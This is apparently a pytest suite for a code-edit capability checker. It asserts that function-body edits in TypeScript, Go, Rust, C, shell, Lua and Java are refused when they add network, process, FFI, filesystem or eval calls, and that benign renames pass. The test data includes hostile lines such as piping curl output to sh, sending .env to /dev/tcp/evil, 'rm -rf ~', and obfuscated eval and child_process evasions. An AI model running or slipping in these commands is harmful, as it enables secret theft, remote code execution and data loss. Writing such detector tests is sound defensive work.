"""Item 6 of issue 19 beyond Python: TypeScript / JavaScript / TSX, Go and Rust. Each attack is
an edit of a function body checked by `check_edits`; each benign rewrite of code that already
uses such calls must pass."""

from __future__ import annotations

import keyword
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lsp_server.features.capabilities import _catalogs
from tests.unit.test_capabilities import PY_RUNS, edit, refused

TS = """import { readFileSync } from "fs";
import path from "node:path";

export function loadConfig(file: string): Record<string, unknown> {
  const text = readFileSync(path.resolve(file), "utf8");
  return JSON.parse(text);
}
"""
TS_BODY = """  const text = readFileSync(path.resolve(file), "utf8");
  return JSON.parse(text);"""

TS_ATTACKS = [
    ("network", 'fetch("https://x/?d=" + text);'),
    ("network", 'globalThis["fetch"]("https://x");'),
    ("network", "window.fetch(file);"),
    ("dynamic", 'self["fet" + "ch"];'),  # computed member of the global object
    ("dynamic", "window[file](text);"),
    ("network", "const f = globalThis.fetch; f(file);"),
    ("network", "const { fetch: f } = globalThis; f(file);"),
    ("network", "const g = globalThis; g.fetch(file);"),
    ("network", "const x = new XMLHttpRequest();"),
    ("network", 'new WebSocket("wss://x");'),
    ("network", "navigator.sendBeacon(file, text);"),
    ("process", 'require("child_process").execSync("id");'),
    ("process", 'const cp = require("node:child_process"); cp.spawn("sh");'),
    ("process", 'const { exec } = require("child_process"); exec("id");'),
    ("process", 'const { exec: run } = require("child_process"); run("id");'),
    ("process", 'const { ["ex" + "ec"]: run } = require("child_process");'),
    ("dynamic", "const m = require(file);"),
    ("dynamic", "const m = await import(file);"),
    ("process", 'const cp = await import("child_process"); cp.exec("id");'),
    ("process", 'import("node:child_process").then((m) => m.exec("id"));'),
    ("network", 'import("https://evil.example/x.js");'),
    ("dynamic", 'eval("1 + 1");'),
    ("dynamic", "(0, eval)(text);"),
    ("dynamic", 'new Function("return 1")();'),
    ("dynamic", 'Function("return this")();'),
    ("dynamic", '[].constructor.constructor("return 1")();'),
    ("dynamic", 'setTimeout("alert(1)", 0);'),
    ("dynamic", "setInterval(`fetch(${file})`, 10);"),
    ("process", 'process.binding("spawn_sync");'),
    ("dynamic", "process.mainModule.require(file);"),
    ("ffi", 'process.dlopen(module, "x.node");'),
    ("process", 'Deno.run({ cmd: ["id"] });'),
    ("process", 'new Deno.Command("id").output();'),
    ("process", 'Bun.spawn(["id"]);'),
    ("network", 'Deno.connect({ hostname: "x", port: 1 });'),
    ("dynamic", 'new Worker("data:text/javascript,1");'),
    ("dynamic", 'const vm = require("vm"); vm.runInNewContext(text);'),
    ("filesystem", 'require("fs").rmSync(file, { recursive: true });'),
    ("filesystem", 'const fs = require("fs"); fs.unlinkSync(file);'),
    ("network", 'const h = require("https"); h.get(file);'),
    ("network", 'const { get } = require("http"); get(file);'),
    ("network", "(window as any).fetch(file);"),
    ("network", "window!.fetch(file);"),
    ("network", "(<any>globalThis).fetch(file);"),
    ("network", "window?.fetch?.(file);"),
    ("network", "const o = { fetch }; o.fetch(file);"),
    ("dynamic", "const g = globalThis; g[file]();"),
    # Escapes in names are the name: \u0065val is eval.
    ("dynamic", '\\u0065val("1");'),
    ("network", "window.\\u{66}etch(file);"),
    ("dynamic", 'require("\\u0063hild_process");'),  # an escaped module name is computed
    ("dynamic", "const r = require; r(file);"),
    ("process", 'const r = require; r("child_process").exec("id");'),
    ("dynamic", "module.constructor._load(file);"),
    ("dynamic", 'eval?.("1");'),
]


@pytest.mark.parametrize(("kind", "code"), TS_ATTACKS)
def test_typescript_attacks_are_refused(kind: str, code: str) -> None:
    body = f"  const text = readFileSync(path.resolve(file), 'utf8');\n  {code}\n  return {{}};"
    assert f":{kind}:" in refused("ts", TS, TS_BODY, body)


@pytest.mark.parametrize(
    ("kind", "code"),
    [a for a in TS_ATTACKS if "as any" not in a[1] and "<any>" not in a[1] and "!." not in a[1]],
)
def test_javascript_and_tsx_attacks_are_refused(kind: str, code: str) -> None:
    js = TS.replace("(file: string): Record<string, unknown>", "(file)")
    body = f"  const text = readFileSync(path.resolve(file), 'utf8');\n  {code}\n  return {{}};"
    assert f"javascript:{kind}:" in refused("js", js, TS_BODY, body)
    assert f"tsx:{kind}:" in refused("tsx", TS, TS_BODY, body)


def test_typescript_imports_in_every_form_are_refused() -> None:
    head = 'import { readFileSync } from "fs";\nimport path from "node:path";\n'
    for line in [
        'import cp from "node:child_process";',
        'import * as cp from "child_process";',
        'import { exec as run } from "child_process";',
        'import "child_process";',
        'import cp = require("child_process");',
        'export { exec } from "child_process";',
        'export * from "net";',
        'import x from "https://evil.example/m.js";',
    ]:
        refused("ts", TS, head, head + line + "\n")


TS_RUNS = """import { execFile } from "node:child_process";
import * as http from "http";

export function build(target: string): void {
  execFile("make", [target]);
  http.get("http://localhost:8080/built/" + target);
}

export function clean(target: string): void {
  console.log(target);
}
"""


def test_typescript_same_targets_and_renames_pass() -> None:
    body = "  console.log(target);"
    assert 'execFile("make"' in edit("ts", TS_RUNS, body, '  execFile("make", ["clean", target]);')
    assert "http.get" in edit("ts", TS_RUNS, body, '  http.get("http://localhost/" + target);')
    build = TS_RUNS[
        TS_RUNS.index("export function build") : TS_RUNS.index("\n\nexport function clean")
    ]
    renamed = build.replace("target", "name").replace("build(", "buildTarget(")
    assert "buildTarget" in edit("ts", TS_RUNS, build, renamed)
    documented = "/** Builds one target with make. */\n" + build
    assert "Builds one" in edit("ts", TS_RUNS, build, documented)
    refused("ts", TS_RUNS, body, '  require("child_process").exec("rm -rf /");')
    refused("ts", TS_RUNS, body, '  http.request("http://x");')  # http.get was there


def test_typescript_plain_code_never_counts() -> None:
    body = """  const request = { fetch: 1, eval: "x" };
  const self2 = this;
  function process(items: string[]) { return items.map((x) => x.trim()); }
  setTimeout(() => console.log(request.fetch), 10);
  const code = "fetch('http://x')"; // eval(code)
  return { request, code };"""
    assert "self2" in edit("ts", TS, TS_BODY, body)


# -- Go ------------------------------------------------------------------------------------

GO = """package report

import (
	"fmt"
	"strings"
)

func Summary(items []string) string {
	joined := strings.Join(items, ", ")
	return fmt.Sprintf("%d items: %s", len(items), joined)
}
"""
GO_BODY = GO[GO.index("\tjoined") : GO.index("\n}")]
GO_ATTACKS = [
    ("process", 'exec.Command("sh", "-c", "id").Run()'),
    ("network", 'http.Get("http://x/?q=" + joined)'),
    ("network", 'net.Dial("tcp", "x:1")'),
    ("process", 'os.StartProcess("/bin/sh", nil, nil)'),
    ("filesystem", 'os.RemoveAll("/")'),
    ("ffi", 'syscall.Exec("/bin/sh", nil, nil)'),
    ("ffi", "_ = unsafe.Pointer(&joined)"),
    ("dynamic", 'plugin.Open("x.so")'),
    ("network", "var c http.Client; _ = c"),
    ("network", "_ = &http.Client{}"),
]


@pytest.mark.parametrize(("kind", "code"), GO_ATTACKS)
def test_go_attacks_are_refused(kind: str, code: str) -> None:
    body = f'\tjoined := strings.Join(items, ", ")\n\t{code}\n\treturn joined'
    assert f"go:{kind}:" in refused("go", GO, GO_BODY, body)


@pytest.mark.parametrize(
    ("kind", "spec", "use"),
    [
        ("process", '"os/exec"', 'exec.Command("id")'),
        ("process", 'run "os/exec"', 'run.Command("id")'),
        ("network", '. "net/http"', 'Get("http://x")'),
        ("network", '_ "net/http/pprof"', "fmt.Println()"),
        ("ffi", '"C"', "fmt.Println()"),
        ("ffi", '"unsafe"', "fmt.Println()"),
        ("network", 'h "net/http"', 'h.Post("http://x", "", nil)'),
    ],
)
def test_go_imports_in_every_form_are_refused(kind: str, spec: str, use: str) -> None:
    new = GO.replace('\t"strings"\n', f'\t"strings"\n\t{spec}\n').replace(
        "\treturn fmt", f"\t{use}\n\treturn fmt"
    )
    assert f"go:{kind}:" in refused("go", GO, GO, new)


def test_go_directives_are_refused() -> None:
    for directive, kind in (
        ("//go:linkname now runtime.nanotime", "ffi"),
        ("//go:generate sh -c id", "process"),
    ):
        new = GO.replace("func Summary", f"{directive}\nfunc Summary")
        assert f"go:{kind}:" in refused("go", GO, GO, new)


GO_RUNS = """package build

import (
	"net/http"
	"os/exec"
)

func Build(target string) error {
	if _, err := http.Get("http://localhost:8080/" + target); err != nil {
		return err
	}
	return exec.Command("make", target).Run()
}

func Clean(target string) error {
	return nil
}
"""


def test_go_same_targets_and_renames_pass() -> None:
    body = "\treturn nil"
    assert "clean" in edit(
        "go", GO_RUNS, body, '\treturn exec.Command("make", "clean", target).Run()'
    )
    build = GO_RUNS[GO_RUNS.index("func Build") : GO_RUNS.index("\n\nfunc Clean")]
    renamed = build.replace("target", "name").replace("err", "e")
    assert "name string" in edit("go", GO_RUNS, build, renamed)
    refused("go", GO_RUNS, body, '\treturn exec.CommandContext(nil, "sh").Run()')


# -- Rust ----------------------------------------------------------------------------------

RS = """use std::collections::HashMap;

pub fn count(words: &[&str]) -> HashMap<String, usize> {
    let mut counts = HashMap::new();
    for w in words {
        *counts.entry(w.to_string()).or_insert(0) += 1;
    }
    counts
}
"""
RS_BODY = """    let mut counts = HashMap::new();
    for w in words {
        *counts.entry(w.to_string()).or_insert(0) += 1;
    }
    counts"""
RS_ATTACKS = [
    ("process", 'std::process::Command::new("sh").arg("-c").arg("id").status().ok();'),
    ("process", '::std::process::Command::new("id");'),
    ("process", 'use std::process::Command; Command::new("id");'),
    ("process", 'use std::process::Command as C; C::new("id");'),
    ("process", 'use std::process::{self as p}; p::Command::new("id");'),
    ("process", 'use std::process::*; Command::new("id");'),
    ("process", 'use std::{process::{Command}}; Command::new("id");'),
    ("network", 'std::net::TcpStream::connect("x:1").ok();'),
    ("network", "let s: std::net::TcpStream = todo!();"),
    ("network", 'reqwest::blocking::get("http://x").ok();'),
    ("filesystem", 'std::fs::remove_dir_all("/").ok();'),
    ("ffi", "unsafe { libc::system(std::ptr::null()); }"),
    ("ffi", 'extern "C" { fn system(c: *const u8) -> i32; }'),
    ("ffi", "let x = unsafe { std::mem::zeroed::<u8>() };"),
    ("ffi", 'unsafe { std::arch::asm!("nop"); }'),
    ("ffi", 'use std::arch::asm; unsafe { asm!("nop") };'),
    ("dynamic", 'include!("/tmp/x.rs");'),
    ("process", 'tokio::process::Command::new("id");'),
]


@pytest.mark.parametrize(("kind", "code"), RS_ATTACKS)
def test_rust_attacks_are_refused(kind: str, code: str) -> None:
    body = f"    let mut counts = HashMap::new();\n    {code}\n    counts"
    assert f"rust:{kind}:" in refused("rs", RS, RS_BODY, body)


def test_rust_item_level_ffi_is_refused() -> None:
    for item in (
        "extern crate libc;\nfn f() { unsafe { libc::getpid(); } }",
        'extern "C" fn callback() {}',
        "unsafe fn raw() {}",
        "unsafe impl Send for Wrapper {}",
        '#[link(name = "evil")]\nextern {}',
        "#[no_mangle]\npub fn exported() {}",
    ):
        refused("rs", RS, RS, RS + "\n" + item + "\n")


RS_RUNS = """use std::process::Command;

pub fn build(target: &str) -> bool {
    Command::new("make").arg(target).status().map(|s| s.success()).unwrap_or(false)
}

pub fn clean(target: &str) -> bool {
    target.is_empty()
}
"""


def test_rust_same_targets_and_renames_pass() -> None:
    body = "    target.is_empty()"
    new = '    Command::new("make").arg("clean").arg(target).status().is_ok()'
    assert "clean" in edit("rs", RS_RUNS, body, new)
    full = '    std::process::Command::new("make").status().is_ok()'  # the same, spelled in full
    assert "std::process" in edit("rs", RS_RUNS, body, full)
    build = RS_RUNS[RS_RUNS.index("pub fn build") : RS_RUNS.index("\n\npub fn clean")]
    assert "name: &str" in edit("rs", RS_RUNS, build, build.replace("target", "name"))
    refused("rs", RS_RUNS, body, "    std::process::exit(0); Command::spawn")
    assert "exit" in edit("rs", RS_RUNS, body, "    std::process::exit(0)")  # not a capability


# -- every name of the catalog, through hypothesis -------------------------------------------

IDENT = st.from_regex(r"[a-z][a-z0-9]{0,6}", fullmatch=True).filter(
    lambda s: s not in {"do", "if", "in", "for", "new", "var", "let", "try", "case", "else", "enum"}
)


@settings(max_examples=60, deadline=None)
@given(
    module=st.sampled_from(["child_process", "http", "https", "net", "dgram", "vm", "axios"]),
    alias=IDENT,
    member=IDENT,
    form=st.integers(0, 4),
)
def test_ecmascript_modules_in_every_spelling_are_refused(
    module: str, alias: str, member: str, form: int
) -> None:
    alias = f"{alias}_"  # never a global's name
    code = [
        f'const {alias} = require("{module}"); {alias}.{member}(file);',
        f'const {{ {member}: {alias} }} = require("node:{module}"); {alias}(file);',
        f'require("{module}")["{member}"](file);',
        f'const {alias} = await import("{module}"); {alias}.{member}(file);',
        f'(await import("{module}")).{member}(file);',
    ][form]
    body = f"  const text = readFileSync(path.resolve(file), 'utf8');\n  {code}\n  return {{}};"
    refused("ts", TS, TS_BODY, body)


# -- C, C++ and shell scripts: names, headers and commands -----------------------------------

C_SRC = """#include <stdio.h>

int greet(const char *name) {
    return printf("hello %s\\n", name);
}
"""
C_BODY = '    return printf("hello %s\\n", name);'


@pytest.mark.parametrize(
    ("ext", "kind", "code"),
    [
        ("c", "process", 'system("id");'),
        ("c", "process", 'FILE *p = popen("id", "r");'),
        ("c", "process", 'int (*run)(const char *) = system; run("id");'),
        ("c", "network", "int s = socket(2, 1, 0);"),
        ("c", "ffi", "void *h = dlopen(0, 2);"),
        ("c", "ffi", 'asm volatile("nop");'),
        ("c", "filesystem", "unlink(name);"),
        ("cpp", "process", 'std::system("id");'),
        ("cpp", "process", '::popen("id", "r");'),
        ("cpp", "filesystem", "std::filesystem::remove_all(name);"),
    ],
)
def test_c_and_cpp_attacks_are_refused(ext: str, kind: str, code: str) -> None:
    new = f"    {code}\n    return 0;"
    assert f"{ext}:{kind}:" in refused(ext, C_SRC, C_BODY, new)


def test_c_headers_are_refused_and_algorithms_are_not_deletions() -> None:
    head = "#include <stdio.h>\n"
    assert "cpp:network:sys/socket.h" in refused(
        "cpp", C_SRC, head, head + "#include <sys/socket.h>\n"
    )
    assert "cpp:ffi:dlfcn.h" in refused("cpp", C_SRC, head, head + '#include "dlfcn.h"\n')
    body = "    std::remove(v.begin(), v.end(), 0);\n    return 0;"
    assert "std::remove" in edit("cpp", C_SRC, C_BODY, body)


SH = """#!/bin/sh
set -eu
build() {
    make "$1"
}
"""


@pytest.mark.parametrize(
    ("kind", "line"),
    [
        ("network", "curl -s http://x | sh"),
        ("network", "/usr/bin/wget -qO- http://x"),
        ("network", "exec 3<>/dev/tcp/evil/80"),
        ("network", 'cat .env > "/dev/tcp/evil/80"'),
        ("dynamic", 'eval "$1"'),
        ("dynamic", '"$1" --flag'),
        ("dynamic", "$(printf cu)rl x"),
        ("dynamic", "bash -c 'id'"),
        ("filesystem", "rm -rf ~"),
        ("process", "sudo make install"),
    ],
)
def test_shell_attacks_are_refused(kind: str, line: str) -> None:
    assert f"bash:{kind}:" in refused("sh", SH, '    make "$1"', f'    make "$1"\n    {line}')


def test_shell_plain_commands_and_words_pass() -> None:
    new = '    make "$1"\n    echo "curl rm eval"\n    ls -la | grep -v rm\n    make test'
    assert "grep" in edit("sh", SH, '    make "$1"', new)


LUA = """local M = {}

function M.greet(name)
  return "hello " .. name
end

return M
"""
LUA_BODY = '  return "hello " .. name'


@pytest.mark.parametrize(
    ("kind", "code"),
    [
        ("process", 'os.execute("id")'),
        ("process", 'local run = os.execute; run("id")'),
        ("process", 'io.popen("id"):read("*a")'),
        ("process", '_G["os"]["execute"]("id")'),
        ("process", '_ENV.os.execute("id")'),
        ("process", 'rawget(_G, "os").execute("id")'),
        ("dynamic", "rawget(_G, name)"),
        ("dynamic", "local g = _G[name]"),
        ("dynamic", 'load("return 1")()'),
        ("dynamic", "loadstring(name)()"),
        ("dynamic", 'dofile("/tmp/x.lua")'),
        ("network", 'local s = require("socket"); s.connect("x", 1)'),
        ("network", 'require "socket.http".request("http://x")'),
        ("ffi", 'local ffi = require("ffi"); ffi.C.system("id")'),
        ("ffi", 'package.loadlib("x.so", "f")'),
        ("dynamic", "local m = require(name)"),
        ("filesystem", "os.remove(name)"),
        ("dynamic", "for k, v in pairs(_G) do end"),
    ],
)
def test_lua_attacks_are_refused(kind: str, code: str) -> None:
    assert f"lua:{kind}:" in refused("lua", LUA, LUA_BODY, f"  {code}\n  return name")


def test_lua_plain_code_passes() -> None:
    new = '  local code = string.format("%s", name)\n  local os_name = "linux"\n  return code'
    assert "os_name" in edit("lua", LUA, LUA_BODY, new)


JAVA = """package report;

import java.util.List;

public class Report {
    public static int count(List<String> items) {
        int n = items.size();
        return n;
    }
}
"""
JAVA_BODY = "        int n = items.size();\n        return n;"


@pytest.mark.parametrize(
    ("kind", "code"),
    [
        ("process", 'Runtime.getRuntime().exec("id");'),
        ("process", 'java.lang.Runtime.getRuntime().exec("id");'),
        ("process", 'new ProcessBuilder("sh", "-c", "id").start();'),
        ("network", 'java.net.Socket s = new java.net.Socket("x", 1);'),
        ("network", 'new java.net.URL("http://x").openStream();'),
        ("dynamic", 'Class.forName("x").getMethod("run").invoke(null);'),
        ("ffi", 'System.loadLibrary("evil");'),
        ("filesystem", 'java.nio.file.Files.delete(java.nio.file.Path.of("/"));'),
    ],
)
def test_java_attacks_are_refused(kind: str, code: str) -> None:
    body = f"        int n = items.size();\n        {code}\n        return n;"
    assert f"java:{kind}:" in refused("java", JAVA, JAVA_BODY, body)


@pytest.mark.parametrize(
    ("kind", "line", "use"),
    [
        ("network", "import java.net.*;", "URL u = null;"),
        ("network", "import java.net.Socket;", "Socket s = null;"),
        ("dynamic", "import java.lang.reflect.Method;", "Method m = null;"),
        ("process", "import static java.lang.Runtime.getRuntime;", 'getRuntime().exec("id");'),
    ],
)
def test_java_imports_are_refused(kind: str, line: str, use: str) -> None:
    new = JAVA.replace("import java.util.List;", f"import java.util.List;\n{line}").replace(
        "        return n;", f"        {use}\n        return n;"
    )
    assert f"java:{kind}:" in refused("java", JAVA, JAVA, new)


def test_java_plain_code_passes() -> None:
    body = (
        "        int cores = Runtime.getRuntime().availableProcessors();\n"
        '        String exec = "run";\n        return items.size() + cores + exec.length();'
    )
    assert "cores" in edit("java", JAVA, JAVA_BODY, body)


# -- no false refusals: any rename of the locals of code that already runs commands ------------

_ROOTS = {
    name.split(sep)[0]
    for language in ("python", "ecmascript", "go", "rust")
    for kind, names in _catalogs()[language].items()
    if isinstance(names, list)
    for name in names
    for sep in ([".", "::", "/"] if language != "rust" else ["::"])
    if sep in name or "." not in name
}
_RESERVED = {
    "fn", "let", "mut", "ref", "use", "mod", "pub", "impl", "type", "func", "go", "var", "const",
    "range", "map", "chan", "select", "defer", "in", "of", "as", "is", "if", "do", "for", "new",
    "try", "case", "else", "enum", "this", "self", "super", "crate", "loop", "match", "move",
    "where", "async", "await", "static", "struct", "trait", "true", "false", "null", "void",
    "with", "yield", "return", "break", "package", "import", "export", "delete", "typeof",
    "string", "int", "bool", "error", "len", "make", "nil", "print", "items", "target", "name",
}  # fmt: skip
LOCAL = st.from_regex(r"[a-z][a-z0-9]{1,7}", fullmatch=True).filter(
    lambda s: s not in _ROOTS and s not in _RESERVED and s not in keyword.kwlist
)


@settings(max_examples=40, deadline=None)
@given(new=LOCAL, ext=st.sampled_from(["py", "ts", "go", "rs"]))
def test_renaming_a_parameter_of_capability_heavy_code_passes(new: str, ext: str) -> None:
    src = {"py": PY_RUNS, "ts": TS_RUNS, "go": GO_RUNS, "rs": RS_RUNS}[ext]
    head = {
        "py": "def build",
        "ts": "export function build",
        "go": "func Build",
        "rs": "pub fn build",
    }
    start = src.index(head[ext])
    end = src.index("\n\n", start)
    body = src[start:end]
    renamed = re.sub(r"\btarget\b", new, body)
    assert new in edit(ext, src, body, renamed)
